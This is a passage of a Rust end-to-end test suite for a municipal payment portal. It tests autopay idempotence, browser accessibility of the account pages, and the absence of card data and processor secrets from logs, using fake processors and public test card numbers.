        .text()
        .await
        .unwrap();
    assert_eq!(
        history.matches("/springfield/account/payments/").count(),
        2,
        "{history}"
    );
    let receipts = outbox::to(&inbox, "marie@example.org");
    assert!(
        receipts.iter().any(|m| m
            .subject
            .starts_with("Votre paiement automatique a été effectué")
            && m.text.contains("42,00")),
        "an autopay receipt in French"
    );

    tokio::time::sleep(Duration::from_secs(2)).await;
    let mut running = running;
    running.stop();
    assert_no_card_data(&dir, &[("4242 4242 4242 4242", "731")]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_resident_saves_a_card_and_autopay_pays_once() {
    resident_autopay("autopay-sqlite", &[], 1).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn two_racing_job_runners_pay_once_on_postgres() {
    on_postgres(async |env| resident_autopay("autopay-postgres", env, 2).await).await;
}

/// Every account page, signed out and in, with and without errors, in a
/// real browser with axe-core.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn account_pages_in_a_real_browser_are_accessible() {
    use civicpay_testkit::{
        Locator, assert_accessible, click_and_wait, enabled, outbox, start_browser, text_of,
    };
    if !enabled() {
        eprintln!("browser tests skipped: set CIVICPAY_BROWSER_TESTS=1");
        return;
    }
    let (running, portal, _pay) = start_demo("browser-account").await;
    let (_driver, client, _profile) = start_browser().await;
    let account = format!("{portal}/springfield/account");
    let fill = |fields: Vec<(&'static str, String)>| {
        let client = client.clone();
        async move {
            for (id, value) in fields {
                let field = client.find(Locator::Id(id)).await.unwrap();
                field.clear().await.unwrap();
                field.send_keys(&value).await.unwrap();
            }
        }
    };
    client.goto(&format!("{account}/sign-up")).await.unwrap();
    assert_accessible(&client, "sign-up").await;
    click_and_wait(
        &client,
        Locator::Css("form[novalidate] button[type=submit]"),
    )
    .await;
    assert!(
        text_of(&client, ".error-summary")
            .await
            .contains("e-mail address")
    );
    assert_accessible(&client, "sign-up with errors").await;
    fill(vec![
        ("email", "ana@example.org".into()),
        ("password", RESIDENT_PASSWORD.into()),
    ])
    .await;
    click_and_wait(
        &client,
        Locator::Css("form[novalidate] button[type=submit]"),
    )
    .await;
    assert_eq!(text_of(&client, "h1").await, "Check your e-mail");
    assert_accessible(&client, "check your e-mail").await;
    let mail = outbox::to(&running.dir.join("outbox"), "ana@example.org");
    client
        .goto(&outbox::link(&mail[0], "/verify/"))
        .await
        .unwrap();
    assert_eq!(text_of(&client, "h1").await, "Sign in");
    assert_accessible(&client, "sign-in after confirming").await;
    fill(vec![
        ("email", "ana@example.org".into()),
        ("password", RESIDENT_PASSWORD.into()),
    ])
    .await;
    click_and_wait(
        &client,
        Locator::Css("form[novalidate] button[type=submit]"),
    )
    .await;
    assert_eq!(text_of(&client, "h1").await, "Your account");
    assert_accessible(&client, "account home, nothing linked").await;

    client.goto(&format!("{account}/link")).await.unwrap();
    assert_accessible(&client, "link an account").await;
    client
        .find(Locator::Id("bill_type"))
        .await
        .unwrap()
        .select_by_value("water")
        .await
        .unwrap();
    fill(vec![
        ("reference", "1000-61166".into()),
        ("verification", "00000".into()),
    ])
    .await;
    click_and_wait(
        &client,
        Locator::Css("form[novalidate] button[type=submit]"),
    )
    .await;
    assert_accessible(&client, "link with the wrong proof").await;
    client
        .find(Locator::Id("bill_type"))
        .await
        .unwrap()
        .select_by_value("water")
        .await
        .unwrap();
    fill(vec![("verification", "62703".into())]).await;
    click_and_wait(
        &client,
        Locator::Css("form[novalidate] button[type=submit]"),
    )
    .await;
    assert!(text_of(&client, "main").await.contains("1000-61166"));
    assert_accessible(&client, "account home with a linked account and its bills").await;
    for (path, what) in [
        ("/payments", "payments"),
        ("/cards", "saved cards"),
        ("/settings", "settings"),
        ("/email", "change of e-mail"),
        ("/password", "change of password"),
        ("/sign-out-everywhere", "sign out everywhere"),
        ("/two-step", "two-step sign-in with its QR code"),
        ("/delete", "delete the account"),
        ("/autopay/water/100061166", "autopay without a saved card"),
    ] {
        client.goto(&format!("{account}{path}")).await.unwrap();
        assert_eq!(
            client
                .find_all(Locator::Css(".staff-nav"))
                .await
                .unwrap()
                .len(),
            1,
            "{what}: a signed-in page"
        );
        assert_accessible(&client, what).await;
    }
    client.goto(&format!("{account}/password")).await.unwrap();
    fill(vec![
        ("current", "wrong".into()),
        ("password", "short".into()),
    ])
    .await;
    click_and_wait(
        &client,
        Locator::Css("form[novalidate] button[type=submit]"),
    )
    .await;
    assert_accessible(&client, "change of password with errors").await;
    // Two-step sign-in turned on: the recovery codes page, shown once.
    client.goto(&format!("{account}/two-step")).await.unwrap();
    let key = text_of(&client, "code.secret").await;
    let secret = civicpay_identity::TotpSecret::from_base32(&key).unwrap();
    fill(vec![("code", secret.code_at(unix_now()))]).await;
    click_and_wait(
        &client,
        Locator::Css("form[novalidate] button[type=submit]"),
    )
    .await;
    assert_eq!(
        client
            .find_all(Locator::Css("ul.codes li"))
            .await
            .unwrap()
            .len(),
        10
    );
    assert_accessible(&client, "recovery codes").await;
    civicpay_testkit::assert_fits(&client, "recovery codes").await;
    client.close().await.unwrap();
}

#[path = "e2e/chaos.rs"]
mod chaos;

/// Invariant 1 with each real processor's connector: a city on its own
/// Authorize.Net or Moneris account (the fakes, through `processors_url`)
/// is paid and declined with trace logging on, and no file any process
/// wrote holds a card number or security code.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_canary_holds_with_each_processor_connector() {
    for kind in ["authorize_net", "moneris"] {
        processor_canary(kind).await;
    }
}

async fn processor_canary(kind: &str) {
    use civicpay_processor_fakes::{authorize_net::AuthorizeNetFake, moneris::MonerisFake};
    let authorize_net = AuthorizeNetFake::new("civicpaylogin", "AnetKey42value", "USD");
    let moneris = MonerisFake::new("civicpay-client", "MonerisSecret42", "0123456789101", "CAD");
    let router = axum::Router::new()
        .nest("/authorize-net", authorize_net.router())
        .nest("/moneris", moneris.router());
    let base = format!(
        "http://{}",
        civicpay_processor_fakes::serve(router).await.unwrap()
    );
    let env = [("CIVICPAY_PROCESSORS_URL", base.as_str())];
    let (running, portal, pay) = start_demo_logging(
        &format!("canary-{kind}"),
        Some(("trace", "civicpay.log")),
        &env,
    )
    .await;
    let (slug, table, secret_name, secret) = match kind {
        "authorize_net" => (
            "springfield",
            "kind = \"authorize_net\"\nenvironment = \"sandbox\"\napi_login_id = \"civicpaylogin\"",
            "processor.transaction_key",
            "AnetKey42value",
        ),
        _ => (
            "lac-vert",
            "kind = \"moneris\"\nenvironment = \"sandbox\"\nclient_id = \"civicpay-client\"\nmerchant_id = \"0123456789101\"",
            "processor.client_secret",
            "MonerisSecret42",
        ),
    };
    let example = std::fs::read_to_string(format!(
        "{}/../../examples/cities/{slug}.toml",
        env!("CARGO_MANIFEST_DIR")
    ))
    .unwrap();
    let file = running.dir.join("city.toml");
    std::fs::write(&file, format!("{example}\n[processor]\n{table}\n")).unwrap();
    // The CLI registers the city with pay as the running demo would: with
    // the demo's addresses, so its return origin stays the demo's portal.
    let portal_addr = portal.trim_start_matches("http://").to_owned();
    let pay_addr = pay.trim_start_matches("http://").to_owned();
    let cli_env = [
        ("CIVICPAY_PROCESSORS_URL", base.as_str()),
        ("CIVICPAY_PORTAL_ADDR", portal_addr.as_str()),
        ("CIVICPAY_PAY_ADDR", pay_addr.as_str()),
    ];
    let applied = finished(civicpay_in(
        &running.dir,
        &cli_env,
        &["city", "apply", &file.display().to_string()],
    ));
    assert!(applied.contains("processor"), "{applied}");
    let mut setting = Command::new(env!("CARGO_BIN_EXE_civicpay"))
        .args(["city", "secret", "set", slug, secret_name])
        .env("CIVICPAY_DATA_DIR", &running.dir)
        .envs(cli_env)
        .env_remove("DATABASE_URL")
        .env("CIVICPAY_LOG", "warn")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    {
        use std::io::Write;
        let mut input = setting.stdin.take().unwrap();
        input.write_all(format!("{secret}\n").as_bytes()).unwrap();
    }
    assert!(setting.wait_with_output().unwrap().status.success());

    // (path, reference, verification, card, code, approved)
    let attempts: Vec<(&str, &str, &str, &str, &str, bool)> = match kind {
        "authorize_net" => vec![
            (
                "/springfield/pay/water",
                "1000-61166",
                "62703",
                "4242 4242 4242 4242",
                "917",
                true,
            ),
            (
                "/springfield/pay/parking",
                "PK-2026-004000",
                "HEG3375",
                "4000 0000 0000 0002",
                civicpay_processor_fakes::authorize_net::MISMATCHED_CARD_CODE,
                false,
            ),
            (
                "/springfield/pay/permits",
                "PER-26-00300",
                "Côté",
                "3782 822463 10005",
                "7391",
                true,
            ),
        ],
        _ => vec![
            (
                "/lac-vert/pay/stationnement",
                "PK-2026-004000",
                "KPU2067",
                "4000 0000 0000 0077",
                civicpay_processor_fakes::moneris::MISMATCHED_SECURITY_CODE,
                false,
            ),
            (
                "/lac-vert/pay/stationnement",
                "PK-2026-004000",
                "KPU2067",
                "5555 5555 5555 4444",
                "482",
                true,
            ),
        ],
    };
    for (path, reference, verification, card, code, approved) in &attempts {
        let status = try_card((&portal, &pay), (path, reference, verification), card, code).await;
        let expected = if *approved { 303 } else { 200 };
        if status.as_u16() != expected {
            let log = std::fs::read_to_string(running.dir.join("civicpay.log")).unwrap_or_default();
            let tail: Vec<&str> = log
                .lines()
                .filter(|l| l.contains("WARN") || l.contains("ERROR"))
                .collect();
            panic!(
                "{kind} {card}: {status}, not {expected}; warnings and errors:\n{}",
                tail.join("\n")
            );
        }
    }
    let made = match kind {
        "authorize_net" => authorize_net.transaction_count(),
        _ => moneris.payment_count(),
    };
    assert_eq!(
        made,
        attempts.len(),
        "{kind}: every attempt went to the city's processor"
    );

    tokio::time::sleep(Duration::from_secs(2)).await;
    let mut running = running;
    running.stop();
    let typed: Vec<(&str, &str)> = attempts.iter().map(|a| (a.3, a.4)).collect();
    assert_no_card_data(&running.dir.clone(), &typed);
    assert_eq!(
        occurrences(&running.dir, secret.as_bytes()),
        Vec::<String>::new(),
        "{kind}: the processor's secret is nowhere in clear"
    );
}
